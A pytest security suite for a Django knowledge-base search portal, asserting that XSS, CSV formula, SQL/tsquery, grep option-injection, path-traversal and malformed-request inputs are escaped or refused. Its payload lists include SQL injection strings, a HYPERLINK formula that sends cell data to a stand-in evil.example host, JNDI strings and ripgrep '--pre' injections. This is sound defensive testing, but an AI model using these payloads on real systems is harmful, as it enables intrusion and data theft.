"""Hostile input on every surface: markup, spreadsheet formulas, SQL / tsquery / regex syntax,
grep option injection, checkout path traversal, malformed API bodies and parameters, headers.

Each test asserts the safe behaviour (escaped, defused, refused with a 4xx, never a 5xx, never
another tenant's or a restricted row). Attacks that worked are reported separately.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import stat
from pathlib import Path

import pytest
from django.contrib.auth import get_user_model
from django.core.cache import cache
from django.test import Client
from django.urls import reverse

from kbportal.tenancy import tenant_context
from projects.models import Membership
from projects.services import api_token_create, membership_create, profile_set_default_project
from search.services import ask
from search.tools.code import Pattern, grep_command, run_grep, search_code
from sources.models import DataSource
from sources.selectors import scope_for_user
from tests.security.attack_data import (
    ATKX,
    BAD_CODE_PATHS,
    SECRET_CODE_MARKER,
    TRAVERSAL_MARKER,
    XSS_ALIAS,
    XSS_NAME,
    atkx_load,
)

pytestmark = pytest.mark.django_db


@pytest.fixture(scope="session")
def atkx(django_db_setup, django_db_blocker) -> ATKX:
    return atkx_load(django_db_blocker)


API = "/api/v1"
OUTSIDER_MARKER = "okapi checklist"  # only in tenant atk-y


@pytest.fixture(autouse=True)
def _fresh_throttle_counts():
    cache.clear()
    yield


@pytest.fixture
def member_token(atkx) -> str:
    return api_token_create(tenant=atkx.x.tenant, user=atkx.member, name="inputs-member")[1]


def _web(user) -> Client:
    client = Client(raise_request_exception=False)
    client.force_login(user)
    return client


def _api(method: str, path: str, token: str, **kwargs):
    client = Client(raise_request_exception=False)
    return getattr(client, method)(f"{API}{path}", HTTP_AUTHORIZATION=f"Bearer {token}", **kwargs)


def _body(response) -> str:
    if response.streaming:
        return b"".join(response.streaming_content).decode()
    return response.content.decode()


def _no_raw(html: str, *snippets: str) -> None:
    for snippet in snippets:
        assert snippet not in html, f"unescaped {snippet!r} in the page"


# ---------- markup from documents, names, questions and comments ------------------------------------


def test_people_page_escapes_hostile_names_and_never_links_javascript(atkx):
    html = _web(atkx.member).get(reverse("search:people"), {"q": "walrus migration"}).content.decode()
    assert "Ana Public" in html  # control: the thread's people are listed
    _no_raw(html, XSS_NAME, XSS_ALIAS, "<script>alert(", "<img src=x")
    assert "&lt;script&gt;alert(" in html
    assert not re.search(r'href="\s*javascript:', html, re.I)


def test_document_page_escapes_and_never_links_javascript(atkx):
    r = _web(atkx.member).get(f"/documents/{atkx.source_public_id}/", {"id": "slack#walrus-public"})
    html = r.content.decode()
    assert r.status_code == 200 and "walrus migration runbook" in html
    assert not re.search(r'href="\s*javascript:', html, re.I)


@pytest.mark.parametrize("page", ["search:ask", "search:search", "search:people"])
def test_hostile_question_is_escaped_on_the_page(atkx, page):
    q = "walrus migration \"><svg onload=alert(1)> </textarea><script>alert('q')</script>"
    html = _web(atkx.member).get(reverse(page), {"q": q}).content.decode()
    _no_raw(html, "<svg onload", "<script>alert('q')")


def test_audit_and_analytics_pages_escape_questions_comments_and_names(atkx):
    admin = _web(atkx.x.admin)
    q = "walrus <script>alert('audit')</script> migration"
    result = ask(q, scope_for_user(atkx.x.admin))
    r = admin.post(
        reverse("search:answer_feedback", args=[result.answer_id]),
        {"vote": "down", "comment": "<img src=x onerror=alert('comment')>"},
    )
    assert r.status_code == 302
    audit = admin.get(reverse("search:audit"), {"text": "alert"}).content.decode()
    assert "audit" in audit and "comment" in audit  # control: both events are listed
    _no_raw(audit, "<script>alert('audit')", "<img src=x onerror")
    analytics = admin.get(reverse("search:analytics")).content.decode()
    assert "walrus" in analytics  # control: the question is a top question
    _no_raw(analytics, "<script>alert('audit')")


def test_streamed_answer_keeps_server_sent_event_framing_with_hostile_content(atkx):
    r = _web(atkx.member).get(reverse("search:ask_stream"), {"q": "parking policy parking badge\n\nevent: done"})
    assert r.status_code == 200 and r["Content-Type"].startswith("text/event-stream")
    events = []
    for line in _body(r).split("\n"):
        if not line:
            continue
        field, _, value = line.partition(": ")
        assert field in {"event", "data"}, line[:80]
        if field == "event":
            events.append(value)
        else:
            json.loads(value)
    assert events[:3] == ["plan", "tools", "evidence"] and events[-1] == "done"
    assert set(events) <= {"plan", "tools", "evidence", "token", "done"}


# ---------- CSV export: formula cells ---------------------------------------------------------------


FORMULA_USERNAMES = ["+1+1", "-1-1", "@SUM(A1)", "=2+5", "\t=1", "\r=1"]


def test_audit_csv_export_defuses_formula_cells(atkx):
    for i, username in enumerate(FORMULA_USERNAMES):
        user = get_user_model().objects.create_user(username, f"f{i}@atk-x.example", "f" * 12)
        membership_create(tenant_id=atkx.x.tenant.pk, user=user, role=Membership.Role.MEMBER)
        profile_set_default_project(user=user, tenant_id=atkx.x.tenant.pk, project_id=atkx.x.project.pk)
        client = _web(user)
        r = client.get(
            reverse("search:search"),
            {"q": '=HYPERLINK("http://evil.example/?"&A1,"x") walrus'},
            HTTP_X_REQUEST_ID=f"-2.3cmd_calc{i:04d}",
        )
        assert r.status_code == 200
    r = _web(atkx.x.admin).get(reverse("search:audit_export"), {"action": "search", "text": "HYPERLINK"})
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(_body(r))))
    header, events = rows[0], rows[1:]
    assert len(events) >= len(FORMULA_USERNAMES)
    by_actor = {row[header.index("actor")].lstrip("'"): row for row in events}
    for username in FORMULA_USERNAMES:
        assert username in by_actor, username
    for row in events:
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), row


# ---------- SQL, tsquery and regex syntax in every text input ---------------------------------------


PAYLOADS = [
    "' OR 1=1 --",
    "walrus'; SELECT pg_sleep(5); --",
    "walrus\\'; DROP TABLE sources_document; --",
    "%' AND '1'='1",
    "_%_",
    "walrus:* & !migration",
    "'walrus':A | 'okapi':B",
    "!!!( walrus",
    "walrus <-> migration <2> okapi",
    "-(",
    '-"',
    '-""',
    '-"walrus" -"okapi"',
    "- - - walrus",
    "-!x -'y -\\ -:* walrus",
    '"walrus" "-okapi" "" "\\"',
    "(?:a+)+$ walrus",
    ".*" * 40,
    "[ walrus \\d{99999}",
    "${jndi:ldap://x/a} {{7*7}} <%= 7*7 %>",
    "\u202e\u200b walrus \ufeff",
    "-zz " * 600,
    '"' + "zz " * 600 + '"',
    "zz_" * 600,
    "walrus " * 300,
]


def _safe(response, *, expect: set[int] = frozenset({200, 400})) -> str:
    assert response.status_code in expect, response.status_code
    body = _body(response)
    # (A restricted neighbour section's text in a hit's "context" is a reported finding, not asserted here.)
    assert OUTSIDER_MARKER not in body and SECRET_CODE_MARKER not in body and "night shift" not in body
    return body


@pytest.mark.slow
@pytest.mark.parametrize("page", ["search:search", "search:people", "search:ask_stream"])
def test_injection_payloads_on_the_web_pages(atkx, page):
    client = _web(atkx.member)
    for payload in PAYLOADS:
        _safe(client.get(reverse(page), {"q": payload}))


def test_injection_payloads_on_the_ask_page(atkx):
    client = _web(atkx.member)
    for payload in PAYLOADS[::3]:
        _safe(client.get(reverse("search:ask"), {"q": payload}))


@pytest.mark.slow
@pytest.mark.parametrize("path", ["/search", "/who-knows"])
def test_injection_payloads_through_the_api(atkx, member_token, path):
    for payload in PAYLOADS:
        r = _api("get", path, member_token, data={"q": payload[:2000]})
        _safe(r)
        assert r["Content-Type"].startswith("application/json")


def test_injection_payloads_through_the_api_ask(atkx, member_token):
    for payload in PAYLOADS[1::4]:
        r = _api(
            "post", "/ask", member_token, data=json.dumps({"question": payload[:2000]}), content_type="application/json"
        )
        _safe(r)


@pytest.mark.slow
def test_injection_payloads_in_the_audit_filters(atkx):
    client = _web(atkx.x.admin)
    for payload in PAYLOADS:
        for field in ("text", "actor"):
            r = client.get(reverse("search:audit"), {field: payload[:150]})
            assert r.status_code == 200, (field, payload[:30])
            r = client.get(reverse("search:audit_export"), {field: payload[:150]})
            assert r.status_code in (200, 400)
            _body(r)


def test_like_wildcards_in_the_audit_text_filter_are_literal(atkx):
    client = _web(atkx.x.admin)
    everything = client.get(reverse("search:audit")).content.decode()
    assert "No events." not in everything  # control: the tenant has events
    for wildcard in ("%", "_", "%%", "\\%"):
        page = client.get(reverse("search:audit"), {"text": f"zq{wildcard}qz"}).content.decode()
        assert "No events." in page, wildcard


# ---------- search_code: grep option injection and checkout path traversal --------------------------


def _evil_script(tmp_path: Path) -> tuple[Path, Path]:
    marker = tmp_path / "pwned"
    script = tmp_path / "evil.sh"
    script.write_text(f'#!/bin/sh\ntouch {marker}\ncat "$1"\n')
    script.chmod(script.stat().st_mode | stat.S_IXUSR)
    return script, marker


def test_search_code_passes_question_text_to_ripgrep_as_patterns_never_options(atkx, tmp_path, settings):
    settings.KB_WORKDIR = tmp_path / "work"
    script, marker = _evil_script(tmp_path)
    scope = scope_for_user(atkx.member)
    for query in (
        f'"--pre={script}" handle_request',
        f"`--pre={script}` handle_request",
        f'"--pre-glob=*" "--pre={script}" "--search-zip" handle_request',
        '"--files" "--no-config" "-e" "-- ." "--" handle_request',
        '"--ignore-file=/etc/passwd" "--follow" "--json" handle_request',
    ):
        evidence = search_code(query=query, scope=scope)
        assert any(ev.path == "app/main.py" for ev in evidence), query  # control: grep ran
        assert not marker.exists(), f"ripgrep ran a preprocessor for {query!r}"
        assert all("root:x:0:0" not in ev.text for ev in evidence)
    literal = search_code(query='"--pre=cat" literal flag', scope=scope)
    grep_hit = [ev for ev in literal if ev.path == "app/main.py" and "grep" in ev.metadata]
    assert grep_hit and "--pre=cat" in grep_hit[0].metadata["grep"]["patterns"]


@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
def test_git_grep_fallback_treats_option_shaped_patterns_as_patterns(tmp_path):
    script, marker = _evil_script(tmp_path)
    tree = tmp_path / "tree"
    tree.mkdir()
    (tree / "a.py").write_text("x = '--open-files-in-pager'\n")
    patterns = [
        Pattern(text=f"--open-files-in-pager={script}", weight=3, case_sensitive=True),
        Pattern(text=f"-O{script}", weight=3, case_sensitive=True),
        Pattern(text="--open-files-in-pager", weight=3, case_sensitive=True),
    ]
    run = run_grep(grep_command(("git", shutil.which("git")), patterns, case_sensitive=True), cwd=tree, git_format=True)
    assert not marker.exists()
    assert run.matches == {("a.py", 1): ["--open-files-in-pager"]}


def test_checkout_writer_never_writes_outside_its_tree(atkx, tmp_path, settings):
    work = tmp_path / "work"
    settings.KB_WORKDIR = work
    absolute = Path("/tmp/abs_atk_7f3a.py")
    assert not absolute.exists()
    evidence = search_code(query=f"{TRAVERSAL_MARKER} handle_request", scope=scope_for_user(atkx.member))
    assert any(ev.path == "app/main.py" for ev in evidence)  # control: the checkout was written and grepped
    tree = work / "checkouts" / atkx.source_public_id / "tree"
    written = sorted(str(p.relative_to(tree)) for p in tree.rglob("*") if p.is_file())
    assert written == ["app/main.py", "app/secret_keys.py"], written
    outside = [p for p in tmp_path.rglob("*") if p.is_file() and TRAVERSAL_MARKER in p.read_text(errors="replace")]
    assert outside == [], outside
    assert not absolute.exists()
    for name in ("escape_atk.py", "b_atk.py", "dot_atk.py", "double_atk.py"):
        assert not list(tmp_path.parent.rglob(name)), name
    assert len(BAD_CODE_PATHS) == 8


# ---------- malformed API requests --------------------------------------------------------------------


BAD_ASK_BODIES = [
    "[]",
    '"walrus"',
    "123",
    "null",
    "{",
    '{"question": null}',
    '{"question": {"$ne": 1}}',
    '{"question": ["walrus"]}',
    '{"question": true}',
    '{"question": "walrus", "project": 5}',
    '{"question": "walrus", "project": {"a": 1}}',
    '{"question": "walrus", "project": "../x"}',
    '{"question": "\\u0000"}',
    '{"question": "\\ud800 walrus"}',
    '{"question": ""}',
    '{"question": "   "}',
    '{"question": "' + "x" * 2001 + '"}',
    '\ufeff{"question": "walrus"}',
    '{"question": "a", "question": {}}',
]


def test_malformed_ask_bodies_are_400_not_500(atkx, member_token):
    for body in BAD_ASK_BODIES:
        r = _api("post", "/ask", member_token, data=body, content_type="application/json")
        assert r.status_code in (400, 404), (body[:40], r.status_code, r.content[:200])
        assert r.json()["request_id"]
    r = _api("post", "/ask", member_token, data="question=walrus", content_type="text/plain")
    assert r.status_code == 415


def test_malformed_feedback_votes_are_400(atkx, member_token):
    result = ask("walrus migration runbook", scope_for_user(atkx.member))
    path = f"/answers/{result.answer_id}/feedback"
    for body in (
        {"vote": 2},
        {"vote": 0},
        {"vote": "up"},
        {"vote": True},
        {"vote": 1.5},
        {"vote": None},
        {"vote": [1]},
        {},
        {"vote": 1, "comment": "x" * 2001},
        {"vote": 1, "comment": {"a": 1}},
    ):
        r = _api("post", path, member_token, data=json.dumps(body), content_type="application/json")
        assert r.status_code == 400, (body, r.status_code)
    web = _web(atkx.member)
    for vote in ("", "0", "2", "UP", "true", "1; DROP"):
        r = web.post(reverse("search:answer_feedback", args=[result.answer_id]), {"vote": vote})
        assert r.status_code == 400, vote


def test_bad_query_parameters_are_4xx_not_500(atkx, member_token):
    cases = [("/search", {"q": "walrus", "limit": v}) for v in ("-1", "0", "51", "1e3", "abc", "9" * 30, "1.5")] + [
        ("/search", {"q": "walrus", "kind": "bogus"}),
        ("/search", {"q": "walrus", "kind": ["thread", "thread", "'; --"]}),
        ("/search", {"q": "walrus", "project": "é"}),
        ("/search", {"q": "walrus", "project": "a" * 81}),
        ("/search", {"q": "walrus\x00"}),
        ("/search", {"q": ""}),
        ("/search", {}),
        ("/who-knows", {"q": "walrus", "limit": "21"}),
        ("/runs", {"limit": "100000"}),
        ("/runs", {"source": "../../etc"}),
        ("/runs", {"source": "nope"}),
        ("/sources", {"project": "nope"}),
        ("/analytics", {"days": "0"}),
    ]
    for path, params in cases:
        r = _api("get", path, member_token, data=params)
        assert 400 <= r.status_code < 500, (path, params, r.status_code)
        assert r["Content-Type"].startswith("application/json")


def test_wrong_methods_and_content_negotiation_are_4xx(atkx, member_token):
    for method, path in (
        ("put", "/ask"),
        ("delete", "/search"),
        ("patch", "/projects"),
        ("get", "/ask"),
        ("post", "/runs"),
        ("get", "/sources/x/sync"),
    ):
        assert _api(method, path, member_token).status_code == 405, (method, path)
    for accept in ("application/xml", "text/event-stream", "image/png"):
        r = _api("get", "/search", member_token, data={"q": "walrus"}, HTTP_ACCEPT=accept)
        assert r.status_code == 406, (accept, r.status_code)
    r = _api("get", "/does-not-exist/../../projects", member_token)
    assert r.status_code == 404 and r["Content-Type"].startswith("application/json")


# ---------- web parameters and headers ------------------------------------------------------------------


def test_bad_web_parameters_are_4xx_not_500(atkx):
    member, admin = _web(atkx.member), _web(atkx.x.admin)
    for page in ("search:ask", "search:search", "search:people"):
        for project in ("x" * 81, "'; --", "../atk-y", "everything\x00", "évery"):
            assert member.get(reverse(page), {"q": "walrus", "project": project}).status_code == 404
    assert member.get(reverse("search:ask_stream")).status_code == 400
    assert member.get(reverse("search:ask_stream"), {"q": "\x00 \t"}).status_code == 400
    for params in (
        {"page": "-1"},
        {"page": "0"},
        {"page": "abc"},
        {"page": "9" * 40},
        {"since": "0001-01-01"},
        {"until": "0001-01-01"},
        {"since": "2030-01-01", "until": "2020-01-01"},
        {"since": "2024-02-30"},
        {"action": "bogus"},
        {"actor": "kb_"},
        {"actor": "kb__x"},
        {"text": "x" * 500},
        {"actor": "a\x00b"},
    ):
        assert admin.get(reverse("search:audit"), params).status_code == 200, params
        r = admin.get(reverse("search:audit_export"), params)
        assert r.status_code in (200, 400), params
        _body(r)
    for params in (
        {"days": "-1"},
        {"days": "0"},
        {"days": "366"},
        {"days": "1e3"},
        {"days": "9" * 40},
        {"days": "nan"},
        {"project": "nope"},
        {"project": "\x00"},
    ):
        assert admin.get(reverse("search:analytics"), params).status_code in (200, 404), params


def test_hostile_request_ids_are_replaced_not_reflected(atkx):
    client = _web(atkx.member)
    for given in ("<script>alert(1)</script>", "a" * 65, "short", "abc def ghi", "x\u00e9" * 5):
        r = client.get(reverse("search:search"), HTTP_X_REQUEST_ID=given)
        assert r["X-Request-ID"] != given and re.fullmatch(r"[0-9a-f]{32}", r["X-Request-ID"]), given
    r = client.get(reverse("search:search"), HTTP_X_REQUEST_ID="trace-1234.ok_id")
    assert r["X-Request-ID"] == "trace-1234.ok_id"


def test_outsider_cannot_reach_tenant_x_by_any_injected_project_or_source_name(atkx):
    outsider = _web(atkx.y.admin)
    with tenant_context(atkx.x.tenant.pk):
        slug = DataSource.objects.get(pk=atkx.source_id).slug
    token = api_token_create(tenant=atkx.y.tenant, user=atkx.y.admin, name="inputs-outsider")[1]
    for name in (slug, f"{slug}' OR '1'='1", f"atk-x/{slug}", "%", "_" * 8):
        r = _api("get", "/runs", token, data={"source": name})
        assert r.status_code in (400, 404), (name, r.status_code)
        r = _api("post", f"/sources/{name}/sync", token)
        assert r.status_code == 404, (name, r.status_code)
    for q in ("walrus migration", "ibex onboarding", "handle_request", TRAVERSAL_MARKER):
        html = outsider.get(reverse("search:search"), {"q": q}).content.decode().rsplit("</form>", 1)[1]
        assert "ibex" not in html and "handle_request" not in html and TRAVERSAL_MARKER not in html
